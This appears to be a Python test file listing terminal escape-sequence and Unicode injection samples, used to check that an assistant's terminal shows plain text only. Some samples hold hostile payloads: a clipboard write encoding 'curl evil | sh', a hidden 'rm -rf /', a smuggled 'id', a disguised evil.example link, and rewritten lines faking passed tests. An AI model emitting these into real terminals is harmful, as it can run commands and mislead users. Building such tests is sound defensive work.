"""Attacks on the user's terminal by what a program prints."""

from assistant.terminal.sections import MARK
from tests.attacks.attack import prints, terminal_obeys

_PLAIN = "a terminal gets plain text: nothing that it would obey, hide, or show elsewhere"
_VOICE = "no output can pass for a line of the assistant's own"

ATTACKS = (
    *prints(
        _PLAIN,
        {
            "screen cleared": "\x1b[2J\x1b[H@TOKEN@",
            "clipboard filled": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07@TOKEN@",
            "window titled": "\x1b]0;@TOKEN@\x07",
            "title sent back as input": "\x1b]2;id\x07\x1b[21t",
            "device control": "\x1bP$q\x22p\x1b\\@TOKEN@",
            "question answered as input": "\x1b[6n\x1b[c\x1b]10;?\x07",
            "line before rewritten": "\x1b[1A\x1b[2K@TOKEN@: all tests passed",
            "line rewritten": "exit 1\rexit 0 @TOKEN@",
            "characters taken back": "failed\b\b\b\b\b\bpassed @TOKEN@",
            "codes of one byte": "\u009b2J\u009d0;@TOKEN@\u009c",
            "raw codes of one byte": b"\x9b2J\x9d0;x\x9c\x84",
            "another screen": "\x1b[?1049h@TOKEN@",
            "cursor hidden, paste left open": "\x1b[?25l\x1b[?2004h\x1b[?1003h",
            "link to elsewhere": "\x1b]8;;http://evil.example\x1b\\https://good.example\x1b]8;;\x1b\\",
            "colours of the ground": "\x1b[8m@TOKEN@\x1b[38;2;0;0;0m",
            "character set": "\x1b(0\x0e@TOKEN@",
            "text turned round": "access \u202eyek terces\u202c @TOKEN@",
            "isolated direction": "\u2066@TOKEN@\u2069\u2067x\u2069",
            "invisible text": "pass\u200bword \u2060\u2063\ufeff@TOKEN@",
            "text in tags": "fine" + "".join(chr(0xE0000 + ord(c)) for c in "rm -rf /"),
            "lines of other kinds": "one\u2028two\u2029three\x0bfour\x0cfive\x85six",
            "cut in the middle of a code": "x" * 200 + "\x1b[3",
            "bell": "\x07" * 50,
            "nothing at all": "a\0b\x7fc",
            "a code over two writes": "\x1b" + "\n" + "]0;@TOKEN@\x07",
        },
        terminal_obeys,
    ),
    *prints(
        _VOICE,
        {
            "a mark of the assistant's": f"{MARK} done: @TOKEN@ the check passed\n",
            "such a mark after a rewound line": f"x\r{MARK} @TOKEN@ done\n",
        },
        terminal_obeys,
    ),
)
